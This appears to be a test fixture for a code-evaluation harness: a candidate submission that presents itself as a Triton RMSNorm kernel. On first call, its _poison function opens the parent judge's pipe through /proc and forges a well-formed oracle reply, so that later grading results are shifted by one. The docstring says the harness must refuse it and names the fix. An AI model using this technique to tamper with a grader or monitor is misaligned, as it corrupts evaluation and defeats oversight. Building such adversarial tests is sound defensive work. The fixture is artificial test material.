"""Cheat: the judge (the parent) is dumpable, so its pipes can be opened through `/proc/<judge>/fd/<n>`. This
candidate finds the first pipe the judge reads from that is not its own (the oracle's replies: the oracle is
started first), opens it for writing and puts a well-formed reply there (`{"ok": true, "out": {"kind":
"none"}}`). The judge takes it for the oracle's answer to its next request, and the oracle's real answer stays
queued: from then on every reply the judge reads from the oracle answers the request before (this evaluation and
every later one, the oracle being long-lived). It must be refused, and above all the NEXT evaluation must be
unaffected: the judge's pipes must be out of the candidate's reach, and a reply must name the request it answers
(a sequence number the judge checks)."""
import json
import struct

import torch
import triton
import triton.language as tl

_imp = __builtins__["__import__"] if isinstance(__builtins__, dict) else __builtins__.__import__
_os = _imp("os")
_done = []


@triton.jit
def _rms_kernel(x_ptr, w_ptr, out_ptr, N, eps, BLOCK: tl.constexpr):
    row = tl.program_id(0)
    offs = tl.arange(0, BLOCK)
    mask = offs < N
    x = tl.load(x_ptr + row * N + offs, mask=mask, other=0.0).to(tl.float32)
    rstd = tl.rsqrt(tl.sum(x * x, axis=0) / N + eps)
    w = tl.load(w_ptr + offs, mask=mask, other=0.0).to(tl.float32)
    tl.store(out_ptr + row * N + offs, (x * rstd * w).to(out_ptr.dtype.element_ty), mask=mask)


def _pipes(pid):
    found = {}
    for fd in _os.listdir(f"/proc/{pid}/fd"):
        try:
            link = _os.readlink(f"/proc/{pid}/fd/{fd}")
            with open(f"/proc/{pid}/fdinfo/{fd}") as f:
                flags = int(f.read().split("flags:")[1].split()[0], 8)
        except (OSError, IndexError):
            continue
        if link.startswith("pipe:"):
            found[int(fd)] = (link, flags & 3)
    return found


def _poison() -> int:
    mine = {link for link, _ in _pipes("self").values()}
    judge = _os.getppid()
    data = json.dumps({"ok": True, "out": {"kind": "none"}, "written": {}, "modified": [], "launched": []}).encode()
    hits = 0
    for fd, (link, mode) in sorted(_pipes(judge).items()):
        if mode == 0 and link not in mine:  # a pipe the judge reads, not ours
            try:
                w = _os.open(f"/proc/{judge}/fd/{fd}", _os.O_WRONLY | _os.O_NONBLOCK)
                _os.write(w, struct.pack("<I", len(data)) + data)
                _os.close(w)
                hits += 1
                break
            except OSError:
                continue
    return hits


def _norm(x, weight, eps):
    x = x.contiguous()
    out = torch.empty_like(x)
    _rms_kernel[(x.shape[0],)](x, weight, out, x.shape[1], eps, BLOCK=triton.next_power_of_2(x.shape[1]))
    return out


def rms_norm(hidden_states, weight, eps=1e-6, residual=None):
    if not _done:
        _done.append(_poison())
    if residual is None:
        return _norm(hidden_states, weight, eps)
    new_residual = hidden_states + residual
    return _norm(new_residual, weight, eps), new_residual
